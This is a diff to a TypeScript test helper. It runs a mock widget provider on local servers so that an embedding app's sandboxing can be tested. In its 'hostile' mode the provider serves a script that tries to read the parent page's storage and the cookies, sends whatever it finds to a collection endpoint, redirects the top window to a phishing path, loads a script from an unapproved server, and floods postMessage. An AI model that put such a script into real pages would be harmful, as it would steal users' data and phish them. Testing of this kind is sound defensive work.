@@ -1,5 +1,5 @@
 import { createHmac, timingSafeEqual } from 'node:crypto'
-import { createServer, type ServerResponse } from 'node:http'
+import { createServer, type Server, type ServerResponse } from 'node:http'
 import type { AddressInfo } from 'node:net'
 
 /** What the provider and the operator share. */
@@ -15,9 +15,12 @@ type Mode = 'up' | 'down' | 'empty' | 'hostile'
 export type WidgetProvider = {
   readonly origin: string
   mode: Mode
-  /** The queries that were answered, and what the script of a hostile provider found. */
+  /** A server of somebody else, whose script nobody has allowed. */
+  readonly stranger: string
+  /** The queries that were answered, what the script of a hostile provider found, and how often a stranger was asked. */
   readonly answered: URL[]
   readonly found: string[]
+  strangerAsked: number
   stop(): Promise<void>
 }
 
@@ -60,6 +63,7 @@ const script = (origin: string): string => `for (const name of ${JSON.stringify(
       if (!answer?.ok) return say('failed')
       const rows = await answer.json()
       if (rows.length === 0) return say('empty')
+      say('ready')
       const root = this.shadowRoot ?? this.attachShadow({ mode: 'open' })
       root.innerHTML = '<ul style="margin:0;color:var(--ruka-text)"></ul>'
       for (const row of rows) root.querySelector('ul').append(Object.assign(document.createElement('li'), { textContent: row }))
@@ -67,11 +71,12 @@ const script = (origin: string): string => `for (const name of ${JSON.stringify(
   })`
 
 /** Tries what a script must not be able to do, and reports what it could. */
-const hostile = (origin: string): string => `${script(origin)}
+const hostile = (origin: string, stranger: string): string => `${script(origin)}
 const attempts = {
   storage: () => parent.localStorage.length,
   page: () => parent.document.title,
   own: () => JSON.stringify(Object.entries(localStorage)),
+  cookies: () => document.cookie,
   top: () => { top.location.href = '${origin}/phish'; return 'asked' },
 }
 for (const [name, attempt] of Object.entries(attempts)) {
@@ -79,11 +84,10 @@ for (const [name, attempt] of Object.entries(attempts)) {
   try { got = String(attempt()) } catch {}
   fetch('${origin}/found?' + name + '=' + encodeURIComponent(got))
 }
-const stranger = document.createElement('script')
-stranger.src = '${origin.replace('127.0.0.1', 'localhost')}/stranger.js'
-document.head.append(stranger)
-parent.postMessage({ type: 'ruka:widget-height', height: 999999 }, '*')
-parent.postMessage({ type: 'ruka:balance' }, '*')`
+document.head.append(Object.assign(document.createElement('script'), { src: '${stranger}/stranger.js' }))
+const post = message => parent.postMessage(message, '*')
+setInterval(() => post({ type: 'ruka:widget-height', height: 999999 }), 100)
+post({ type: 'ruka:balance' })`
 
 export async function openWidgetProvider(): Promise<WidgetProvider> {
   const send = (reply: ServerResponse, status: number, type: string, body: string) =>
@@ -100,9 +104,14 @@ export async function openWidgetProvider(): Promise<WidgetProvider> {
     if (mode === 'down') return void request.socket.destroy()
     if (request.method === 'OPTIONS') return send(reply, 204, 'text/plain', '')
     if (url.pathname === '/live.js')
-      return send(reply, 200, 'text/javascript', (mode === 'hostile' ? hostile : script)(provider.origin))
-    if (url.pathname === '/found' || url.pathname === '/stranger.js') {
-      provider.found.push(url.search === '' ? url.pathname : decodeURIComponent(url.search.slice(1)))
+      return send(
+        reply,
+        200,
+        'text/javascript',
+        mode === 'hostile' ? hostile(provider.origin, provider.stranger) : script(provider.origin),
+      )
+    if (url.pathname === '/found') {
+      provider.found.push(decodeURIComponent(url.search.slice(1)))
       return send(reply, 200, 'text/plain', '')
     }
     const name = /^\/v1\/(\w+)$/.exec(url.pathname)?.[1]
@@ -113,17 +122,28 @@ export async function openWidgetProvider(): Promise<WidgetProvider> {
     const rows = mode === 'empty' ? [] : rowsOf(name, url.searchParams.get('pid') ?? '')
     send(reply, 200, 'application/json', JSON.stringify(rows))
   })
-  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
+  const other = createServer((_, reply) => {
+    provider.strangerAsked++
+    send(reply, 200, 'text/javascript', '')
+  })
   const provider: WidgetProvider = {
-    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    origin: await listen(server),
+    stranger: await listen(other),
+    strangerAsked: 0,
     mode: 'up',
     answered: [],
     found: [],
-    stop: () =>
-      new Promise(resolve => {
-        server.close(() => resolve())
-        server.closeAllConnections()
-      }),
+    async stop() {
+      for (const each of [server, other]) {
+        each.closeAllConnections()
+        await new Promise(resolve => each.close(resolve))
+      }
+    },
   }
   return provider
+}
+
+async function listen(server: Server): Promise<string> {
+  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
+  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
 }
